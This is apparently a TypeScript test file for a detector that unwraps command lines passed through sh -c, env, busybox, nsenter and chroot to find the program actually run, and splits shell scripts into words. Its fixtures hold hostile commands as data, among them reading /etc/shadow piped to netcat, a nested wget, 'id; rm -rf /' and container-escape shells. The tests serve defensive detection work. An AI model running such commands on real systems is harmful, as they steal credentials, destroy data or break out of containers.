import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { argvOfAction, shellWords, unwrap } from './argv.ts'

const commands = [
  { argv: ['ls', '/'], program: 'ls', shell: false, through: [] },
  { argv: ['sh'], program: 'sh', shell: true, through: [] },
  { argv: ['/usr/bin/bash', '-il'], program: 'bash', shell: true, through: [] },
  { argv: ['bash', '--login'], program: 'bash', shell: true, through: [] },
  { argv: ['bash', '--version'], program: 'bash', shell: false, through: [] },
  { argv: ['bash', '/opt/run.sh'], program: 'bash', shell: false, through: [] },
  { argv: ['sh', '-c', 'cat /etc/shadow | nc x 1'], program: 'cat', shell: false, through: ['sh -c'] },
  { argv: ['/bin/bash', '-lc', 'exec zsh'], program: 'zsh', shell: true, through: ['bash -c', 'exec'] },
  { argv: ['env', '-i', 'A=1', 'B=2', 'ash'], program: 'ash', shell: true, through: ['env'] },
  { argv: ['env', '-u', 'HOME', 'id'], program: 'id', shell: false, through: ['env'] },
  { argv: ['busybox', 'sh'], program: 'sh', shell: true, through: ['busybox'] },
  { argv: ['nsenter', '-t', '1', '-m', '--', 'bash'], program: 'bash', shell: true, through: ['nsenter'] },
  { argv: ['chroot', '/host', 'sh'], program: 'sh', shell: true, through: ['chroot'] },
  { argv: ['timeout', '-s', 'KILL', '5', 'id'], program: 'id', shell: false, through: ['timeout'] },
  {
    argv: ['sh', '-c', "env X=1 busybox sh -c 'wget http://x'"],
    program: 'wget',
    shell: false,
    through: ['sh -c', 'env', 'busybox', 'sh -c'],
  },
  { argv: ['sh', '-c', ''], program: 'sh', shell: false, through: [] },
  { argv: ['constructor'], program: 'constructor', shell: false, through: [] },
  { argv: [], program: '', shell: false, through: [] },
] as const

describe('unwrap()', () => {
  for (const { argv, program, shell, through } of commands) {
    it(`${JSON.stringify(argv)} runs ${program || 'nothing'}${shell ? ', an interactive shell' : ''}`, () => {
      const found = unwrap(argv)
      assert.deepEqual(
        { program: found.program, shell: found.shell, through: found.through },
        { program, shell, through: [...through] },
      )
    })
  }

  it('stops at eight levels of programs that start others', () => {
    const argv = [...Array.from({ length: 50 }, () => 'env'), 'id']
    assert.equal(unwrap(argv).through.length, 8)
  })
})

const scripts = [
  ['echo "a  b" c', ['echo', 'a  b', 'c']],
  ["'/bin/my prog' x", ['/bin/my prog', 'x']],
  ['a\\ b', ['a b']],
  ['id; rm -rf /', ['id']],
  ['(id)', ['id']],
  ['say "unclosed', ['say', '', 'unclosed']],
  ['', []],
] as const

describe('shellWords()', () => {
  for (const [script, words] of scripts) {
    it(`${JSON.stringify(script)} begins with ${JSON.stringify(words)}`, () =>
      assert.deepEqual(shellWords(script), [...words]))
  }

  it('stops after 256 words', () => assert.equal(shellWords('a '.repeat(100_000)).length, 256))
})

describe('argvOfAction()', () => {
  const cases = [
    ['exec_start: sh ', ['sh']],
    ['exec_create: /bin/sh -c a: b', ['/bin/sh', '-c', 'a:', 'b']],
    ['exec_die', []],
  ] as const
  for (const [action, argv] of cases) {
    it(`${JSON.stringify(action)} names ${JSON.stringify(argv)}`, () =>
      assert.deepEqual(argvOfAction(action), [...argv]))
  }
})
